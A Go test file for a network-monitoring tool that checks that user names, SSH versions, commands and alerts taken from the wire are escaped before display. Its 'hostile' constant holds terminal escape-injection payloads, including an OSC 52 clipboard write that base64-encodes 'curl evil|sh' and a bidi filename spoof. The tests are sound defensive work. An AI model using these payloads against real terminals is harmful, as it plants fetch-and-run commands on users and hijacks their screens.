package index

import (
	"bytes"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/psmtap/psmtap/dissectors/ssh"
	"github.com/psmtap/psmtap/internal/record"
)

// hostile is text a session can put on the wire: a window title (OSC 0), a
// clipboard write (OSC 52), a terminal report request (CSI 6n, DECRQSS), an
// 8-bit CSI as UTF-8 (U+009B) and as a raw byte, a bidi override, a bare
// bell and a NUL.
const hostile = "root\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[6n\x1bP$qm\x1b\\\u009b6n\x9b6n\u202etxt.exe\x07\x00"

// clean reports what in out a terminal could obey.
func clean(t *testing.T, out string) {
	t.Helper()
	for i, c := range []byte(out) {
		if c < 0x20 && c != '\n' || c == 0x7f {
			t.Errorf("control byte %#x at %d in %q", c, i, out)
		}
	}
	if !utf8.ValidString(out) {
		t.Errorf("invalid UTF-8 (a raw C1 byte?) in %q", out)
	}
	for _, r := range []string{"\u009b", "\u202e"} {
		if strings.Contains(out, r) {
			t.Errorf("%U in %q", []rune(r)[0], out)
		}
	}
}

func TestEscape(t *testing.T) {
	for in, want := range map[string]string{
		"alice":               "alice",
		"ls -l /tmp":          "ls -l /tmp",
		"héllo wörld":         "héllo wörld",
		"a\x1b[31mred":        `a\x1b[31mred`,
		"t\x1b]0;x\x07":       `t\x1b]0;x\x07`,
		"\u009b6n":            `\u009b6n`,
		"\x9b6n":              `\x9b6n`,
		"back\\slash":         `back\\slash`,
		"line\nbreak\r\t":     `line\nbreak\r\t`,
		"\u202etxt":           `\u202etxt`,
		"del\x7f":             `del\x7f`,
		"zero\u200bwidth":     `zero\u200bwidth`,
		"emoji 🙂":             "emoji 🙂",
		`already \x1b quoted`: `already \\x1b quoted`,
	} {
		if got := Escape(in); got != want {
			t.Errorf("Escape(%q) = %q, want %q", in, got, want)
		}
	}
	if got := Cut("ééééé", 3); got != "éé…" {
		t.Errorf("Cut = %q", got)
	}
}

// TestTableEscapes: records, activity events and alerts carry network text
// (user names, SSH software versions, commands, paths, alert messages); the
// table shows it escaped.
func TestTableEscapes(t *testing.T) {
	var b bytes.Buffer
	tb := NewTable(&b)
	now := time.Unix(1700000000, 0)
	rec := &record.Record{Start: now, End: now.Add(time.Second), Protocol: "ssh", UserName: hostile, State: "closed",
		Objects: map[string]any{"ssh": &ssh.Fields{Client: &ssh.Side{Software: hostile}, Server: &ssh.Side{Software: hostile}}}}
	tb.Write(rec)
	ev := record.CommandEvent(now.UnixNano(), hostile)
	ev.UserName = hostile
	tb.Write(ev)
	login := record.LoginEvent(now.UnixNano(), hostile, "success", hostile, false)
	tb.Write(login)
	tb.Write(record.FileEvent(now.UnixNano(), "creation", hostile, 10, "upload"))
	tb.Write(&record.Alert{Time: now, RuleLevel: "high", Message: "login as " + hostile})
	tb.Close()
	out := b.String()
	clean(t, out)
	if !strings.Contains(out, `root\x1b]0;owned`) || !strings.Contains(out, "ALERT") {
		t.Errorf("table lost the text instead of escaping it:\n%s", out)
	}
}
